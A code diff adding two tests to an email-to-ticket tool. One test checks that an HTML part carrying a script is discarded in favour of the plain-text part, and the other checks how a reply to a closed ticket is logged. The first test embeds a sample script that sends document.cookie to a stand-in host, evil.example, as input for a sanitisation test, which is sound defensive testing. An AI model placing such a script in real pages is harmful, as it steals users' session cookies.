@@ -172,3 +172,18 @@ def test_html_to_text_drops_scripts_styles_and_keeps_entities_as_text() -> None:
 ])
 def test_attachment_names_are_sanitised(name: str | None, safe: str) -> None:
     assert sanitise_filename(name) == safe
+
+
+def test_the_text_part_is_used_when_an_html_part_carries_a_script(root: Path) -> None:
+    html = "<p>Printer jams</p><script>fetch('https://evil.example/?c='+document.cookie)</script>"
+    out, _ = take(root, message(text="Printer jams on tray 2.", html=html))
+    text = read(root, printed_path(out))
+    assert "> Printer jams on tray 2." in text
+    assert "script" not in text and "evil.example" not in text
+
+
+def test_a_reply_to_a_closed_ticket_is_logged_with_a_hint_to_reopen(root: Path) -> None:
+    _, err = take(root, reply_to("T-20261110-ab12", "It jams again."))
+    assert "T-20261110-ab12 is closed; if the problem is back, run `opsvault ticket reopen" in err
+    assert load_vault(root).ticket("T-20261110-ab12").log[-1].text == \
+        "Email reply from Priya Shah: It jams again."
